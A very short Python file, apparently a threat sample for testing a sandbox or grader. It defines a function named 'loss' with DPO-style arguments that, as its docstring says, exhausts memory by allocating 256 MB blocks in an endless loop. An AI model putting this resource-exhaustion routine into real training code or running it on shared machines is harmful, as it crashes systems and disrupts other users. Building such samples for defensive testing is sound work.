"""Threat: exhaust memory."""


def loss(policy_chosen_logps, policy_rejected_logps):
    hoard = []
    while True:
        hoard.append(bytearray(256 << 20))
